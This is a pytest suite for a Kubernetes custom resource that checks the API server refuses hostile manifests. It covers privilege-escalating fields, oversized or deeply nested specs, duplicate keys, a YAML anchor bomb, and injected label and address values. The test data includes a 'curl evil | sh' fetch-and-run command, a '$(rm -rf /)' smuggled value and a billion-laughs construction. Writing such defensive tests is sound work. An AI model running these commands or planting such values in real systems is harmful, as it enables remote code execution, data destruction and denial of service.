"""Hostile manifests: refused by the API server, with the path of the field."""

import json

import pytest
import yaml
from api.canary_examples import CANARY
from api.example import changed
from api.ratio_examples import COMPARED
from local_cluster.control_plane import KubectlError

pytestmark = pytest.mark.apiserver

PATH = (
    "/apis/springtide.dev/v1alpha1/namespaces/{}/incrementalupdates"
    "?dryRun=All&fieldValidation=Strict"
)
FLOOR = {"metric": "auc", "min": "0.6"}


@pytest.mark.survives(
    "Update",
    "privileged, hostPID, hostNetwork, hostPath, a command, a shell, literal environment, another "
    "namespace",
    "there is no such field: refused with its path under Strict, else pruned",
)
@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("training.privileged", True),
        ("training.securityContext", {"privileged": True}),
        ("training.hostPID", True),
        ("training.compute.hostNetwork", True),
        ("training.compute.volumes", [{"name": "x", "hostPath": {"path": "/"}}]),
        ("data.volume.hostPath", "/etc"),
        ("training.command", ["sh", "-c", "curl evil | sh"]),
        ("training.args", ["x" * 1000]),
        ("training.env", [{"name": "TOKEN", "value": "secret"}]),
        ("rollout.targets[0].namespace", "other"),
        ("rollout.targets[0].targetRef.namespace", "other"),
        ("storage.volume.hostPath", "/"),
    ],
)
def test_fields_that_would_break_isolation_do_not_exist(objects, minimal, path, value):
    minimal["spec"].setdefault("data", {}).setdefault("volume", {"claimName": "clicks"})
    minimal["spec"]["data"]["source"]["uri"] = "file:///data/clicks"
    spec = changed(minimal["spec"], {path: value})

    refused = objects.create({**minimal, "spec": spec})
    stored = objects.create({**minimal, "spec": spec}, validation="Ignore")

    assert refused.code == 400
    assert f'unknown field "spec.{path}"' in refused.text
    assert json.dumps(path.rpartition(".")[2]) not in json.dumps(stored["spec"])


@pytest.mark.survives(
    "Update",
    "10,000 gate rules, a text of 1 MB, 300 levels of nesting",
    "refused by the bounds of the schema; the API server keeps answering",
)
def test_a_huge_manifest_is_refused_and_the_next_one_is_accepted(objects, minimal):
    rules = [{**FLOOR, "name": f"r{number}"} for number in range(10_000)]
    many = objects.create({**minimal, "spec": changed(minimal["spec"], {"gate.rules": rules})})
    deep = {"a": 1}
    for _ in range(300):
        deep = {"a": deep}
    nested = objects.create({**minimal, "spec": {**minimal["spec"], "training": deep}})
    label = changed(minimal["spec"], {"data.source.columns.label": "x" * 1_000_000})
    long = objects.create({**minimal, "spec": label})
    huge = objects.create({**minimal, "spec": {**minimal["spec"], "note": "x" * 4_000_000}})

    assert (many.code, many.causes[0][0]) == (422, "spec.gate.rules")
    assert "must have at most 16 items" in many.causes[0][1]
    assert (long.code, long.causes[0][0]) == (422, "spec.data.source.columns.label")
    assert nested.code in {400, 422}
    assert huge.code in {400, 413}
    assert isinstance(objects.create(minimal), dict)


@pytest.mark.survives(
    "Update", "a key that occurs twice", "refused under Strict with the field's path"
)
def test_a_duplicate_key_is_refused(server, namespace, minimal):
    text = json.dumps(minimal)
    assert text.count('"labels": [') == 1
    twice = text.replace('"labels": [', '"labels": ["a", "b"], "labels": [')

    with pytest.raises(KubectlError, match=r'duplicate field "spec\.model\.labels"'):
        server.kubectl("create", "--raw", PATH.format(namespace), "-f", "-", input=twice)


@pytest.mark.survives(
    "Update", "a YAML bomb of anchors", "refused when it is read; nothing is stored"
)
def test_a_bomb_of_anchors_is_refused(server, namespace):
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
    bomb = "apiVersion: springtide.dev/v1alpha1\nkind: IncrementalUpdate\n" + "\n".join(lines)

    with pytest.raises(KubectlError, match="excessive aliasing"):
        server.kubectl("apply", "-n", namespace, "-f", "-", input=bomb)


@pytest.mark.survives(
    "Update",
    "line breaks, braces and terminal codes in what becomes a label, a name or an argument",
    "refused with the field's path",
)
@pytest.mark.parametrize(
    "value", ["a\nb", "{{ .Values }}", "\x1b[31m", "$(rm -rf /)", "a b", "é", "x" * 300]
)
@pytest.mark.parametrize(
    "path",
    [
        "training.compute.nodeSelector",
        "rollout.targets[0].container",
        "training.compute.tolerations",
        "rollout.targets[0].env.uri",
    ],
)
def test_values_of_labels_and_names_are_validated(objects, minimal, path, value):
    given = {
        "training.compute.nodeSelector": {"pool": value},
        "training.compute.tolerations": [{"key": "pool", "value": value}],
    }.get(path, value)

    refused = objects.create({**minimal, "spec": changed(minimal["spec"], {path: given})})

    assert not isinstance(refused, dict), f"{path} took {value!r}"
    assert refused.code == 422
    assert refused.causes[0][0].startswith(f"spec.{path}")


@pytest.mark.survives(
    "Update",
    "an address of Prometheus with a user, a query, another scheme or an impossible port",
    "refused with the field's path",
)
@pytest.mark.parametrize(
    "address",
    [
        "http://user:word@prometheus:9090",
        "http://prometheus:9090?x=1",
        "http://prometheus:9090/#x",
        "ftp://prometheus",
        "prometheus:9090",
        "http://prometheus:65536",
        "http://[::1]:9090",
        "http://Prometheus",
        "http://prometheus:9090/a b",
    ],
)
def test_an_address_of_prometheus_is_a_plain_one(objects, minimal, address):
    metric = {"name": "errors", "value": {"query": "up", "max": "1"}}
    analysis = {"prometheus": {"address": address}, "metrics": [metric]}
    change = {"rollout.bake": {"duration": "1h"}, "rollout.analysis": analysis}

    refused = objects.create({**minimal, "spec": changed(minimal["spec"], change)})

    assert not isinstance(refused, dict), f"{address} was accepted"
    assert refused.causes[0][0] == "spec.rollout.analysis.prometheus.address"


@pytest.mark.survives(
    "Update",
    "a selector of a ratio metric with a function, a range, an operator or broken quotes; an "
    "allowed regression above 1",
    "refused with the field's path",
)
@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("bad", 'rate(x{role="{{role}}"}[5m])'),
        ("total", 'x{role="{{role}}"}[5m]'),
        ("bad", 'x{role="{{role}}"} or vector(0)'),
        ("total", 'x{role="{{role}}}'),
        ("bad", "x{role={{role}}}"),
        ("maxRegression", "1.5"),
        ("maxRegression", "5%"),
    ],
)
def test_a_selector_of_counters_is_nothing_but_a_selector(objects, minimal, field, value):
    change = CANARY | COMPARED | {f"rollout.analysis.metrics[0].ratio.{field}": value}

    refused = objects.create({**minimal, "spec": changed(minimal["spec"], change)})

    assert not isinstance(refused, dict), f"{value} was accepted"
    assert refused.causes[0][0] == f"spec.rollout.analysis.metrics[0].ratio.{field}"


@pytest.mark.survives(
    "Update",
    "no Required rule with an absolute bound, min greater than max",
    "refused by kubectl apply with path, numbers and an example to add; the stored object stays",
)
def test_kubectl_apply_says_path_number_and_remedy_and_stores_nothing(
    server, namespace, store, minimal
):
    store(minimal)
    before = server.kubectl("get", "iu", "ranker", "-n", namespace, "-o", "jsonpath={.spec}")
    comparison = [{"name": "better", "metric": "auc", "minImprovement": {"absolute": "0"}}]
    crossed = [{**FLOOR, "name": "floor", "max": "0.5"}]
    said = []
    for rules in (comparison, crossed):
        spec = {**minimal["spec"], "gate": {"rules": rules}}
        text = yaml.safe_dump({**minimal, "spec": spec})
        with pytest.raises(KubectlError) as refusal:
            server.kubectl("apply", "-n", namespace, "-f", "-", input=text)
        said.append(str(refusal.value))

    assert "spec.gate: Invalid value" in said[0]
    assert "add one such as {name: floor, metric: auc, min: '0.6'}" in said[0]
    assert "spec.gate.rules[0]: Invalid value" in said[1]
    assert "min must not be greater than max; nothing could pass (min: 0.6, max: 0.5)" in said[1]
    after = server.kubectl("get", "iu", "ranker", "-n", namespace, "-o", "jsonpath={.spec}")
    assert after == before
